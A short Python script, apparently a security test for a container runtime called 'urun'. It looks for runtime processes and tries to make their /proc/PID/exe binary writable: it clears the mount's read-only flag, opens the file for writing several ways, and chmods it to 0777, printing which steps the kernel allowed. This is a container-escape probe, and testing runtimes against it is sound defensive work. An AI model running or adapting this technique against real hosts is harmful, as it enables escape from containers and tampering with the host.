#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Attacks the file that processes of the runtime, which this process sees, execute: makes the mount of /proc/PID/exe writable, and
writes to the file.  Prints "saw" for each such process, and a line for each step that the kernel allowed."""
import ctypes
import os

AT_EMPTY_PATH = 0x1000
MOUNT_ATTR_RDONLY = 1
MOUNT_SETATTR = 442  # the same number on all architectures

libc = ctypes.CDLL(None, use_errno=True)


class MountAttr(ctypes.Structure):
    _fields_ = [(name, ctypes.c_uint64) for name in ("attr_set", "attr_clr", "propagation", "userns_fd")]


def attack(pid):
    with open(f"/proc/{pid}/comm", encoding="utf-8") as comm:
        if not comm.read().startswith("urun"):
            return
    fd = os.open(f"/proc/{pid}/exe", os.O_PATH)
    print("saw", flush=True)
    attr = MountAttr(attr_clr=MOUNT_ATTR_RDONLY)
    if libc.syscall(MOUNT_SETATTR, fd, b"", AT_EMPTY_PATH, ctypes.byref(attr), ctypes.sizeof(attr)) == 0:
        print("made the mount writable", flush=True)
    for path in (f"/proc/self/fd/{fd}", f"/proc/{pid}/exe"):
        for flags in (os.O_WRONLY, os.O_RDWR, os.O_WRONLY | os.O_TRUNC):
            try:
                os.close(os.open(path, flags))
                print("opened for writing", flush=True)
            except OSError as error:
                print(error.strerror, flush=True)
        try:
            os.chmod(path, 0o777)
            print("changed the mode", flush=True)
        except OSError:
            pass


for entry in os.listdir("/proc"):
    if entry.isdigit():
        try:
            attack(entry)
        except OSError:
            pass
